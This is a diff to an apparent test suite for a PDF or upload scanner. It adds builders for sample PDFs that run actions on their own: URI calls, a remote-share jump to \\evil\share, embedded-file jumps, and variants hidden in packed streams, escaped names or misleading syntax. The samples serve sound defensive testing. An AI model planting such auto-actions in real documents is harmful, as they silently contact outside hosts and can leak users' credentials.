@@ -61,6 +61,28 @@ _run = _add_action("/JavaScript", "/JS", "app.alert(1)")
 _launch = _add_action("/Launch", "/F", "cmd.exe")
 
 
+def act(action: bytes, *others: bytes, key: bytes = b"/OpenAction") -> bytes:
+    """Return a PDF file that does something by itself, with a link that a reader may click."""
+    link = b"<< /Type /Page /Annots [<< /A << /S /URI /URI (https://a.example) >> >>] >>"
+    objects = [b"<< /Type /Catalog /Pages 2 0 R %b %b >>" % (key, action), link, *others]
+    body = b"".join(
+        b"%d 0 obj\n%b\nendobj\n" % (number, one) for number, one in enumerate(objects, 1)
+    )
+    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"
+
+
+def act_packed(action: bytes) -> bytes:
+    """Return the same with its action, number 7, in a packed stream of objects."""
+    packed = zlib.compress(b"7 0 " + action)
+    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b"
+    return act(b"7 0 R", stream % (len(packed), packed) + b"\nendstream")
+
+
+CALL = b"<< /S /URI /URI (https://a.example/?who) >>"
+SHARE = rb"<< /S /GoToR /F (\\evil\share\x) /D [0 /Fit] >>"
+INNER = b"<< /S /GoToE /T << /R /C /N (a) >> >>"
+
+
 def archive() -> bytes:
     """Return a ZIP file."""
     out = io.BytesIO()
@@ -91,6 +113,13 @@ GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
     "small photograph": ("image/webp", lambda: picture("WEBP")),
     "laboratory report": ("application/pdf", report),
     "rewritten report": ("application/pdf", lambda: rewrite(lambda _: None)),
+    "report that opens at a place": ("application/pdf", lambda: act(b"[2 0 R /FitH null]")),
+    "report that shows a place": (
+        "application/pdf",
+        lambda: act(
+            b"3 0 R", b"<</S/GoTo /D [2 0 R /Fit] /Next 4 0 R>>", b"<< /S /Named /N /NextPage >>"
+        ),
+    ),
     "words": ("text/plain", lambda: "Героин, 2,3 кг; бак < 300 л\n".encode()),
 }
 BAD: dict[str, tuple[str, Callable[[], bytes]]] = {
@@ -128,6 +157,25 @@ BAD: dict[str, tuple[str, Callable[[], bytes]]] = {
     "PDF that starts a program": ("active", lambda: rewrite(_launch)),
     "PDF with a file": ("active", lambda: rewrite(lambda one: one.add_attachment("a", b"b"))),
     "PDF with a key": ("encrypted", lambda: rewrite(lambda one: one.encrypt("a"))),
+    "PDF that calls": ("active", lambda: act(CALL)),
+    "PDF that opens a share": ("active", lambda: act(SHARE)),
+    "PDF that opens what is inside": ("active", lambda: act(INNER)),
+    "PDF that calls when a page is shown": (
+        "active", lambda: act(b"<< /O 3 0 R >>", CALL, key=b"/AA")
+    ),
+    "PDF that calls by a reference": ("active", lambda: act(b"3 0 R", b"4 0 R", CALL)),
+    "PDF that calls next": (
+        "active", lambda: act(b"<< /S /GoTo /D [2 0 R /Fit] /Next [3 0 R] >>", CALL)
+    ),
+    "PDF that calls from a packed object": ("active", lambda: act_packed(CALL)),
+    "PDF that calls under a hidden name": (
+        "active", lambda: act(CALL.replace(b"/S /URI", b"/#53%x\n/#55RI"), key=b"/Open#41ction")
+    ),
+    "PDF that calls behind a text": (
+        "active", lambda: act(b"<< /X (>>) /Y (\\)>>) % >>\n /S /URI /URI (https://a.example) >>")
+    ),
+    "PDF that acts by a reference": ("active", lambda: act(b"<< /S 3 0 R >>", b"/URI")),
+    "PDF with an endless action": ("unreadable", lambda: act(b"<< /S /GoTo (")),
     "PDF and archive": ("polyglot", lambda: report() + archive()),
     "PDF cut short": ("broken", lambda: report()[:300]),
 }  # fmt: skip
